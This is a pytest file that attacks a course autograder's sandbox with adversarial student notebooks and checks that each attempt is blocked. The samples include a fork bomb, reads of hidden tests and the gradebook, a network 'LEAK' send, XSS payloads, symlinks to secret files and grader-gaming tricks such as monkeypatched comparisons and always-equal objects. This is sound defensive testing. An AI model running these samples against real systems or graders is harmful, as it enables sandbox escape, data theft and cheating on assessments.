"""Students who try to break or fool the grader, graded in ONE batch beside honest controls.

Every case states its verdict: which exercises keep full points, which get zero, which lose points,
and what the feedback (or the whole autograded notebook) must say or must not contain. The batch
runs through the real path (`python -m mfml_grader autograde`, i.e. `nbgrader autograde` with the
sandboxed executor) with short time limits. At the same time a second grading run of another
course copy, with one grading process (`--jobs 1`: all cores' threads per submission), grades
students who test what one submission can do to the next.
"""

import json
import os
import socket
import subprocess
import sys
import threading

import nbformat
import pytest
from nbgrader.utils import is_solution

from course_fixture import REPO, Course, nbgrader_env
from mfml_grader import catalog, course
from mfml_grader.course import grade_id
from mfml_grader.judge import uids
from mfml_grader.judge.batch import read_times

A = "ps1_linear_algebra"
LIMITS = """
c.SandboxedExecute.cell_timeout = 4
c.SandboxedExecute.notebook_timeout = 90
c.SandboxedExecute.memory_bytes = 3 * 2**30
"""


def _prefix(function, code):
    """Answers where `code` runs in the solution cell of `function`, before the correct solution."""
    return {function: code}


def _suffix(function, code):
    return {function: ("SUFFIX", code)}


def _replace(function, code):
    return {function: ("REPLACE", code)}


class Case:
    """One student: answers (changes to the solution cells), notebook changes, files beside it, and the verdict.

    `says` maps a function to text its feedback must contain, or a tuple of texts one of which it must
    contain (None: any feedback, "notebook": the whole autograded notebook); `never` is text the
    autograded notebook must not contain.
    """

    def __init__(self, answers=None, notebook=None, files=None, zero=(), lost=(), says=None, never=(), whole_zero=False,
                 assignment=A):
        self.answers, self.notebook, self.files, self.assignment = answers or {}, notebook, files, assignment
        self.zero, self.lost, self.says, self.never, self.whole_zero = set(zero), set(lost), says or {}, never, whole_zero


def _onward(function):
    """`function` and every graded function after it: a notebook whose process ends in that cell never defines them."""
    order = [grade_id(c) for c in nbformat.read(course.source_notebook(A, REPO), as_version=4).cells if is_solution(c)]
    return set(order[order.index(function):])


# A frame the trusted side reads as the start of an answer, sent a byte at a time.
TRICKLE = """
import os, socket, stat, struct, time
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            channel = socket.socket(fileno=os.dup(fd))
            for byte in struct.pack(">QQ", 10, 0):
                channel.send(bytes([byte]))
                time.sleep(0.5)
    except OSError:
        pass
"""
# A frame whose header names one 1 MiB payload 2000 times: 2 GB if decoded naively.
HUGE_DECODE = """
import json, os, socket, stat, struct
refs = [{"__tensor__": 0, "dtype": "uint8", "shape": [2**20]}] * 2000
header = json.dumps({"value": refs, "blobs": [[0, 2**20]], "ok": True, "id": 1}).encode()
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            socket.socket(fileno=os.dup(fd)).sendall(struct.pack(">QQ", len(header), 2**20) + header + bytes(2**20))
    except OSError:
        pass
"""
PLANTED = """<script>window.__pwned = 1; document.title = 'PWNED';</script><img src=x onerror="window.__pwned = 2">"""


def cases(course_root, port):
    secrets = [course_root / "grader_tests" / f"test_{A}.py", course_root / "source" / A / f"{A}.ipynb",
               course_root / "submitted" / "honest" / A / f"{A}.ipynb", course_root / "gradebook.db"]
    reads = "\n".join(f"""
try:
    print("LEAKED", open({str(p)!r}, "rb").read(40))
except OSError as error:
    print("blocked:", type(error).__name__)""" for p in secrets)
    writes = "\n".join(f"""
try:
    open({str(p)!r}, "w").write("x")
except OSError as error:
    print("blocked:", type(error).__name__)""" for p in (course_root / "grader_tests" / "evil.py", "/usr/evil", course_root / "evil.txt"))
    return {
        "honest": Case(),
        # -- time, processes and memory of one submission ------------------------------------------
        "infinite_loop": Case(_replace("l2_norm", "def l2_norm(x, dim=-1):\n    while True:\n        pass"),
                              zero={"l2_norm"}, says={"l2_norm": "did not finish"}),
        "sleeper": Case(_replace("linear", "import time\n\ndef linear(x, W, b=None):\n    time.sleep(1000)"),
                        zero={"linear"}, says={"linear": "did not finish"}),
        "loop_at_top_level": Case(_suffix("l2_norm", "while True:\n    pass")),
        "ignores_interrupts": Case(_suffix("softmax", "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"),
                                   zero=_onward("softmax"),
                                   says={"softmax": "did not stop when interrupted"}),
        # the bomb fills the process limit, so the notebook cannot be copied for lora_forward's checks (or, on a
        # busy machine, the copy is made but the bomb's processes keep the call from answering)
        "fork_bomb": Case(_suffix("lora_forward", "import os\nwhile True:\n    os.fork()"),
                          zero=_onward("lora_forward"), says={"lora_forward": ("could not be copied", "did not stop when interrupted")}),
        "memory_hog": Case(_replace("l2_norm", "def l2_norm(x, dim=-1):\n    hog = bytearray(8 * 2**30)\n    return (x * x).sum(dim).sqrt()"),
                           zero={"l2_norm"}, says={"l2_norm": "MemoryError"}),
        "huge_output": Case(_suffix("linear", "for i in range(3_000_000):\n    print('spam', i)\nprint('x' * 100_000_000)")),
        "os_exit": Case(_suffix("lora_forward", "import os\nos._exit(0)"),
                        zero=_onward("lora_forward"), says={"lora_forward": "exited"}),
        "sys_exit": Case(_suffix("l2_norm", "import sys\nsys.exit(1)")),
        "segfault": Case(_suffix("attention", "import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)"),
                         zero=_onward("attention"), says={"attention": "SIGSEGV"}),
        # -- the sandbox's walls ----------------------------------------------------------------------
        "network": Case(_prefix("l2_norm", f"""import socket
for host in ("127.0.0.1", "1.1.1.1"):
    try:
        socket.create_connection((host, {port}), timeout=2).sendall(b"LEAK")
        print("CONNECTED", host)
    except OSError as error:
        print("blocked:", type(error).__name__)""")),
        "reads_secrets": Case(_prefix("l2_norm", reads)),
        "writes_outside": Case(_prefix("l2_norm", writes)),
        "uid_probe": Case(_prefix("l2_norm", "import os\nprint('UID', os.getuid())")),
        # -- fooling the comparison ---------------------------------------------------------------------
        "monkeypatches_comparisons": Case(_replace("attention_scores", """import numpy
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
numpy.testing.assert_allclose = lambda *args, **kwargs: None
numpy.allclose = lambda *args, **kwargs: True

def attention_scores(q, k):
    return q @ k.transpose(-2, -1)"""), lost={"attention_scores"}, says={"attention_scores": "no 1/√d_k scaling"}),
        "always_equal": Case(_replace("l2_norm", """class AlwaysEqual:
    def __eq__(self, other):
        return True
    shape = property(lambda self: (2,))

def l2_norm(x, dim=-1):
    return AlwaysEqual()"""), zero={"l2_norm"}, says={"l2_norm": "AlwaysEqual"}),
        "tensor_subclass": Case(_replace("l2_norm", """class Liar(torch.Tensor):
    def __eq__(self, other):
        return True

def l2_norm(x, dim=-1):
    return torch.zeros(x.shape[:-1] if dim == -1 else x.sum(dim).shape).as_subclass(Liar)"""), zero={"l2_norm"}),
        "overrides_ipython": Case(_replace("linear", """import sys
get_ipython().showtraceback = lambda *args, **kwargs: None
get_ipython().displayhook = lambda value: None
sys.displayhook = lambda value: None

def linear(x, W, b=None):
    return x @ W.T"""), lost={"linear"}, says={"linear": "bias ignored"}),
        "deletes_test_cell": Case(notebook=lambda nb: [c for c in nb if grade_id(c) != "test_linear"]),
        "alters_test_cell": Case({**_replace("softmax", "def softmax(x, dim=-1):\n    return x.exp() / x.exp().sum(dim, keepdim=True)")},
                                 notebook=lambda nb: [_with_source(c, "print('all good')") if grade_id(c) == "test_softmax" else c for c in nb],
                                 lost={"softmax"}, says={"softmax": "no max-shift"}),
        "duplicates_cells": Case(notebook=lambda nb: [d for c in nb for d in ((c, _copy(c)) if grade_id(c) in ("l2_norm", "test_l2_norm") else (c,))]),
        "invalid_json": Case(notebook="{ this is not json", whole_zero=True, says={None: "not a readable notebook"}),
        "empty_file": Case(notebook="", whole_zero=True, says={None: "not a readable notebook"}),
        # -- forbidden APIs, reached by private or reflective spellings: every exercise refused ----------
        "forbidden_getattr": Case(_replace("softmax", "def softmax(x, dim=-1):\n    return getattr(F, 'soft' + 'max')(x, dim)"),
                                  whole_zero=True, says={"softmax": "getattr with a computed name"}),
        "private_torch": Case(_replace("softmax", "def softmax(x, dim=-1):\n    return torch._softmax(x, dim, False)"),
                              whole_zero=True, says={"softmax": "torch._softmax", "l2_norm": "torch._softmax"}),
        "operator_registry": Case(_replace("softmax", "def softmax(x, dim=-1):\n    return torch.ops.aten.softmax.int(x, dim)"),
                                  whole_zero=True, says={"softmax": "torch.ops"}),
        "guard_off_from_another_cell": Case(_replace("softmax", "def softmax(x, dim=-1):\n    return torch.softmax(x, dim)"),
                                            notebook=lambda nb: _insert_after(nb, "l2_norm", "import contextlib\nimport mfml_grader.student as adapter\n"
                                                                              "adapter.forbid_at_runtime = lambda *args: contextlib.nullcontext()"),
                                            whole_zero=True, says={"softmax": "mfml_grader"}),
        # -- what the hidden checks send must not come back out ----------------------------------------
        "records_hidden_inputs": Case({**_replace("l2_norm", """SEEN = []

def l2_norm(x, dim=-1):
    if x.dtype == torch.float64:                        # the visible tests use float32 only
        SEEN.append(x.flatten()[:3].tolist())
        with open("seen.txt", "a") as log:
            log.write(repr(x.tolist()))
    return (x * x).sum(dim).sqrt()"""), **_suffix("lora_forward", """import os
print("RECORDED", len(SEEN), os.path.exists("seen.txt"))""")}, says={"notebook": "RECORDED 0 False"}),
        "records_stand_in": Case({**_replace("softmax", """def softmax(x, dim=-1):
    e = torch.exp(x - x.max(dim, keepdim=True).values)
    return e / e.sum(dim, keepdim=True)

MINE = softmax"""), **_suffix("attention", """HELPERS = []
_attention = attention

def attention(q, k, v, causal=False):
    if softmax is not MINE:                               # the course's softmax stands in
        HELPERS.append((repr(softmax), str(softmax.__doc__)))
    return _attention(q, k, v, causal)"""), **_suffix("lora_forward", "print('HELPERS', HELPERS[:3])")},
                                 says={"notebook": "HELPERS []"}, never=("the largest entry of each slice becomes 0",)),
        # -- a submission that stops or swamps the grader ------------------------------------------------
        "trickle_reply": Case(_suffix("lora_forward", TRICKLE), zero=_onward("lora_forward"), says={"lora_forward": "trickled"}),
        "huge_decode": Case(_suffix("lora_forward", HUGE_DECODE), zero=_onward("lora_forward"), says={"lora_forward": "decodes to more than"}),
        "many_cells": Case(notebook=lambda nb: nb + [nbformat.v4.new_code_cell(f"print('{i}' + 'z' * 99_000)") for i in range(40)],
                           says={"notebook": "output truncated: the notebook's output is over the limit"}),
        "attachments_and_big_cell": Case(notebook=lambda nb: nb + [_attached(5 * 2**20), nbformat.v4.new_code_cell("x = 1  # " + "y" * 300_000)],
                                         says={"notebook": "attachments were dropped"}),
        # -- links, devices and FIFOs in the submission folder ---------------------------------------------
        "links_beside": Case(files=lambda folder: _plant_links(folder, course_root), says={"notebook": "is a symbolic link"}),
        "notebook_is_link": Case(files=lambda folder: _link_notebook(folder, course_root), whole_zero=True, says={None: "symbolic link"}),
        "no_notebook": Case(notebook="NO NOTEBOOK", whole_zero=True, says={None: "no ps1_linear_algebra.ipynb"}),
        "timestamp_is_a_fifo": Case(files=lambda folder: os.mkfifo(folder / "timestamp.txt"), whole_zero=True,
                                    says={None: "timestamp.txt is not a regular file"}),
        # -- active HTML in outputs and Markdown ------------------------------------------------------------
        "planted_script": Case(_suffix("l2_norm", f"""from IPython.display import HTML, Markdown, display
PLANTED = {PLANTED!r}
display(HTML(PLANTED))
display(Markdown("[click](javascript:window.__pwned=3) " + PLANTED))
display({{"image/png": '"><script>window.__pwned=4</script>', "image/svg+xml": "<svg onload='window.__pwned=5'></svg>",
          "text/plain": "planted"}}, raw=True)"""), notebook=lambda nb: nb + [nbformat.v4.new_markdown_cell(f"A note {PLANTED}")]),
        "planted_raw_cell": Case(_suffix("linear", """from IPython.display import HTML, display
display(HTML("<iframe src='javascript:window.__pwned=6'></iframe><form action='https://example.org'><input></form>"
             "<a href='jav&#x61;script:window.__pwned=7'>x</a><style>body {display: none}</style>"))"""),
                                 notebook=lambda nb: nb + [nbformat.v4.new_raw_cell("<script>window.__pwned = 8</script>",
                                                                                    metadata={"format": "text/html"})],
                                 never=("<iframe", "<form", "<script", "<style", "script:")),
        # -- ps2: correct solutions written with layer classes that have their own backward ----------------
        "honest_ps2": Case(assignment="ps2_calculus"),
        "layer_classes": Case(_replace("mlp_loss_and_grads", LAYER_CLASSES["mlp_loss_and_grads"]), assignment="ps2_calculus"),
        "layer_class_linear": Case(_replace("linear_backward", LAYER_CLASSES["linear_backward"]), assignment="ps2_calculus"),
    }


# correct ps2 solutions in the style of "backprop by hand" code written outside the course: {function: code}
LAYER_CLASSES = {v.function: v.code.strip("\n") for v in catalog.load("ps2_calculus", REPO).VARIANTS if "class" in v.description}


def _insert_after(cells, name, source):
    index = next(i for i, c in enumerate(cells) if grade_id(c) == name)
    return cells[:index + 1] + [nbformat.v4.new_code_cell(source)] + cells[index + 1:]


def _attached(size):
    cell = nbformat.v4.new_markdown_cell("![big](attachment:big.png)")
    cell["attachments"] = {"big.png": {"image/png": "A" * size}}
    return cell


def _plant_links(folder, course_root):
    (folder / "hidden_tests.py").symlink_to(course_root / "grader_tests" / f"test_{A}.py")
    (folder / "gradebook.db").symlink_to(course_root / "gradebook.db")
    (folder / "random.bin").symlink_to("/dev/urandom")
    (folder / "data").mkdir()
    (folder / "data" / "solutions").symlink_to(course_root / "source", target_is_directory=True)
    os.mkfifo(folder / "pipe")


def _link_notebook(folder, course_root):
    notebook = folder / f"{A}.ipynb"
    notebook.unlink()
    notebook.symlink_to(course_root / "submitted" / "honest" / A / f"{A}.ipynb")


def _with_source(cell, source):
    cell = nbformat.from_dict(cell)
    cell.source = source
    return cell


def _copy(cell):
    copy = nbformat.from_dict(cell)
    copy["id"] = copy["id"] + "-copy"
    return copy


class _Listener:
    """A TCP server on the host's loopback: no sandboxed student may reach it."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.connections += 1
            connection.close()


def _write_submissions(grading, all_cases):
    solutions = {a: grading.solutions(a) for a in {case.assignment for case in all_cases.values()}}
    for student, case in all_cases.items():
        answers = dict(solutions[case.assignment])
        for function, change in case.answers.items():
            if isinstance(change, tuple):
                kind, code = change
                answers[function] = code if kind == "REPLACE" else solutions[case.assignment][function] + "\n\n" + code
            else:
                answers[function] = change + "\n\n" + solutions[case.assignment][function]
        folder = grading.root / "submitted" / student / case.assignment
        if isinstance(case.notebook, str):
            folder.mkdir(parents=True)
            if case.notebook == "NO NOTEBOOK":
                (folder / "README.txt").write_text("I forgot the notebook")
            else:
                (folder / f"{case.assignment}.ipynb").write_text(case.notebook)
            continue
        grading.submit(student, case.assignment, answers)
        if case.notebook:
            path = folder / f"{case.assignment}.ipynb"
            notebook = nbformat.read(path, as_version=4)
            notebook.cells = case.notebook(notebook.cells)
            nbformat.write(notebook, path)
        if case.files:
            case.files(folder)


def _start_batch(grading, jobs, assignments, *options):
    return subprocess.Popen([sys.executable, "-m", "mfml_grader", "autograde", "--jobs", str(jobs), *options, *assignments], cwd=grading.root,
                            env=nbgrader_env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


# A second grading run on the same host at the same time, with one grading process (so every
# submission gets all the cores' torch threads): its honest students keep full marks, a student who
# changes its inputs in place costs no one else, and nothing a submission leaves behind reaches the next.
SECOND_RUN = {
    "a_mutates_inputs": Case(_replace("sample_categorical", """def sample_categorical(logits, temperature=1.0, generator=None):
    logits.mul_(0.5)
    if temperature == 0:
        return logits.argmax(dim=-1)
    return torch.multinomial(torch.softmax(logits / temperature, -1), 1, generator=generator).squeeze(1)"""),
                             assignment="ps3_probability", lost={"sample_categorical"}, says={"sample_categorical": "in place"}),
    "b_honest": Case(assignment="ps3_probability"),
    "a_leaves_traces": Case(_prefix("l2_norm", """import os, socket
# std streams, the grader's socket, this listing (fonts the notebook's own figures opened aside: test_figures checks none is inherited)
print("FDS", sorted(fd for fd in os.listdir("/proc/self/fd") if not os.path.realpath(f"/proc/self/fd/{fd}").endswith(".ttf")))
for path in ("trace.txt", os.path.expanduser("~/.trace"), "/tmp/trace.txt", "/dev/shm/trace", "/tmp/submissions/trace.txt"):
    try:
        open(path, "w").write("TRACE")
    except OSError as error:
        print("blocked:", path, type(error).__name__)
listener = socket.socket(socket.AF_UNIX)
listener.bind("\\0mfml-trace")
listener.listen()
if os.fork() == 0:
    import time
    time.sleep(1000)""")),
    "b_finds_traces": Case(_prefix("l2_norm", """import glob, os, socket
found = [p for pattern in ("trace.txt", "~/.trace", "/tmp/*trace*", "/dev/shm/*", "/tmp/submissions/**")
         for p in glob.glob(os.path.expanduser(pattern), recursive=True) if "trace" in p]
try:
    socket.socket(socket.AF_UNIX).connect("\\0mfml-trace")
    found.append("socket")
except OSError:
    pass
print("FOUND" if found else "NOTHING", found)""")),
    "c_uid_probe": Case(_prefix("l2_norm", "import os\nprint('UID', os.getuid())")),
}


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    grading = Course.copy_of_repo(tmp_path_factory.mktemp("adversarial"))
    second = Course.copy_of_repo(tmp_path_factory.mktemp("second-run"))
    for run in (grading, second):
        with open(run.root / "nbgrader_config.py", "a") as config:
            config.write(LIMITS)
    listener = _Listener()
    all_cases = cases(grading.root, listener.port)
    for run, run_cases in ((grading, all_cases), (second, SECOND_RUN)):
        for assignment in sorted({case.assignment for case in run_cases.values()}):
            run.nbgrader("generate_assignment", assignment)
        _write_submissions(run, run_cases)
    # the main run on the default Dask LocalCluster, the second on grading processes without Dask
    runs = [_start_batch(second, 1, ["ps1_linear_algebra", "ps3_probability"], "--cluster", "processes"),
            _start_batch(grading, 2, [A, "ps2_calculus"])]
    results = [run.communicate(timeout=1500) for run in runs]
    return grading, all_cases, listener, [(run.returncode, *result) for run, result in zip(runs, results)], second


def test_both_batches_finish_and_say_what_they_could_not_grade(batch):
    grading, _, _, results, _ = batch
    for returncode, _, stderr in results:
        assert returncode == 0, stderr[-3000:]
    stderr = results[1][2]
    for student in ("invalid_json", "empty_file", "notebook_is_link", "no_notebook", "timestamp_is_a_fifo"):
        assert f"NOT GRADED {student}" in stderr, stderr[-3000:]


def test_the_batch_times_every_notebook_it_ran(batch):
    """logs/autograde-times.tsv: a row per executed notebook; the hung ones head the `slowest:` line."""
    grading, all_cases, _, results, _ = batch
    rows = read_times(grading.root)
    timed = {student for _, student, _ in rows}
    assert {a for a, _, _ in rows} == {A, "ps2_calculus"}
    assert timed <= set(all_cases) and {"honest", "infinite_loop", "segfault"} <= timed, sorted(timed)
    assert not timed & {"invalid_json", "empty_file"}, "an unreadable notebook never runs"
    slowest_line = next(line for line in results[1][2].splitlines() if line.startswith("slowest: "))
    slowest = max(rows, key=lambda row: row[2])
    assert slowest[2] >= 4, f"a hung notebook runs until the 4 s cell limit, the slowest took {slowest[2]} s"
    assert f"{slowest[1]}/{slowest[0]}" in slowest_line, slowest_line


def test_honest_controls_get_full_marks(batch):
    grading, _, _, _, second = batch
    for run, student, assignment in ((grading, "honest", A), (grading, "honest_ps2", "ps2_calculus"), (second, "b_honest", "ps3_probability")):
        scores = run.scores(assignment, student)
        assert scores and all(s[0] == s[1] for s in scores.values()), (student, scores)


@pytest.mark.parametrize("student", [s for s in cases(__import__("pathlib").Path("/x"), 0) if s != "honest"])
def test_verdict(batch, student):
    grading, all_cases, _, _, _ = batch
    _check_verdict(grading, student, all_cases[student])


@pytest.mark.parametrize("student", sorted(SECOND_RUN))
def test_verdict_in_the_second_run(batch, student):
    _check_verdict(batch[4], student, SECOND_RUN[student])


def _check_verdict(grading, student, case):
    assignment = case.assignment
    scores = grading.scores(assignment, student)
    assert set(scores) == set(grading.solutions(assignment)), f"{student}: grades {scores}"
    feedback = course.test_cell_outputs(grading.root, assignment, student)
    for function, (score, maximum) in scores.items():
        if case.whole_zero or function in case.zero:
            assert score == 0, f"{student}: {function} should score 0, got {score}:\n{feedback.get(function)}"
        elif function in case.lost:
            assert 0 <= score < maximum, f"{student}: {function} should lose points, got {score}/{maximum}"
        else:
            assert score == maximum, f"{student}: {function} should keep full marks, got {score}/{maximum}:\n{feedback.get(function)}"
    notebook = _notebook_text(grading, student, assignment)
    rendered = _rendered_text(grading, student, assignment)
    for function, text in case.says.items():
        where = notebook if function == "notebook" else feedback.get(function, "") if function else "\n".join(feedback.values())
        assert any(t in where for t in ((text,) if isinstance(text, str) else text)), \
            f"{student}: {function or 'the feedback'} does not say {text!r}:\n{where[:3000]}"
    for text in case.never:
        assert text not in rendered, f"{student}: the autograded notebook shows {text!r}"


def _rendered_text(grading, student, assignment=A):
    """What the autograded notebook renders as other than code: outputs and Markdown."""
    path = grading.root / "autograded" / student / assignment / f"{assignment}.ipynb"
    if not path.exists():
        return ""
    cells = nbformat.read(path, as_version=4).cells
    return json.dumps([cell.get("outputs", []) if cell.cell_type == "code" else cell.source for cell in cells])


def _notebook_text(grading, student, assignment=A):
    path = grading.root / "autograded" / student / assignment / f"{assignment}.ipynb"
    return path.read_text() if path.exists() else ""


def _outputs(grading, student):
    notebook = nbformat.read(grading.root / "autograded" / student / A / f"{A}.ipynb", as_version=4)
    return json.dumps([cell.get("outputs", []) for cell in notebook.cells])


def test_no_secret_was_read_and_nothing_was_written(batch):
    grading = batch[0]
    outputs = _outputs(grading, "reads_secrets")
    assert "LEAKED" not in outputs and outputs.count("blocked:") == 4, outputs[:2000]
    assert _outputs(grading, "writes_outside").count("blocked:") == 3
    assert not (grading.root / "grader_tests" / "evil.py").exists() and not (grading.root / "evil.txt").exists()
    assert not os.path.exists("/usr/evil")


def test_no_link_was_followed(batch):
    """The links beside the notebook were neither copied into autograded/ nor handed to the sandbox."""
    grading = batch[0]
    folder = grading.root / "autograded" / "links_beside" / A
    copied = sorted(p.name for p in folder.rglob("*") if p.name != f"{A}.ipynb")
    assert copied == [], copied
    notebook = _notebook_text(grading, "links_beside")
    for name in ("hidden_tests.py", "gradebook.db", "random.bin", "pipe", "FIFO"):
        assert name in notebook, f"the feedback does not name {name}"


def test_no_network(batch):
    grading, _, listener, _, _ = batch
    outputs = _outputs(grading, "network")
    assert listener.connections == 0 and "CONNECTED" not in outputs and outputs.count("blocked:") == 2


def test_output_is_capped_per_cell_and_per_notebook(batch):
    grading = batch[0]
    for student, limit in (("huge_output", 2 * 2**20), ("many_cells", 3 * 2**20), ("attachments_and_big_cell", 2 * 2**20)):
        path = grading.root / "autograded" / student / A / f"{A}.ipynb"
        assert path.stat().st_size < limit, f"{student}: {path.stat().st_size} bytes"
    assert "spam 0" in _outputs(grading, "huge_output")
    assert "over the limit of 200000: it was dropped" in _notebook_text(grading, "attachments_and_big_cell")


def test_one_submission_changes_nothing_for_the_next(batch):
    """Graded one after another by one grading process: the traces of the first are gone for the second."""
    second = batch[4]
    traces, finds = (_outputs(second, s) for s in ("a_leaves_traces", "b_finds_traces"))
    assert "FDS" in traces and "NOTHING" in finds and "FOUND" not in finds, finds[:3000]
    fds = json.loads(traces.split("FDS ")[1].split("\\n")[0].replace("'", '"'))
    assert len(fds) == 5, f"descriptors the submission did not open itself: {fds}"


def test_each_grading_run_has_uids_of_its_own(batch):
    grading, _, _, _, second = batch
    first_uid = int(_outputs(grading, "uid_probe").split("UID ")[1].split("\\")[0])
    second_uid = int(_outputs(second, "c_uid_probe").split("UID ")[1].split("\\")[0])
    assert uids.owns_sandbox_uid(first_uid) and uids.owns_sandbox_uid(second_uid)
    assert (first_uid - uids.FIRST_UID) // uids.BLOCK_SIZE != (second_uid - uids.FIRST_UID) // uids.BLOCK_SIZE


def test_planted_script_does_not_run_in_the_feedback(batch, browser):
    """Script, event handlers and javascript: links from outputs and Markdown are gone, in the notebook and in the browser."""
    grading = batch[0]
    rendered = _rendered_text(grading, "planted_script")
    for active in ("<script", "onerror", "onload", "javascript:", "image/svg+xml"):
        assert active not in rendered, f"the autograded notebook still shows {active!r}"
    assert "planted" in rendered, "the output's plain text is still shown"
    grading.nbgrader("generate_feedback", A, "--student=planted_script")
    (page_file,) = (grading.root / "feedback" / "planted_script" / A).glob("*.html")
    page = browser.new_page()
    page.goto(page_file.as_uri())
    page.wait_for_load_state("load")
    page.wait_for_timeout(500)
    assert page.evaluate("window.__pwned === undefined") and page.title() != "PWNED"
    assert page.locator("text=A note").count() >= 1


def test_no_process_of_any_submission_survives(batch):
    survivors = subprocess.run(["ps", "-eo", "uid=,pid=,comm="], capture_output=True, text=True).stdout.splitlines()
    sandboxed = [line for line in survivors if uids.owns_sandbox_uid(int(line.split()[0]))]
    assert not sandboxed, f"processes of graded submissions still running: {sandboxed}"
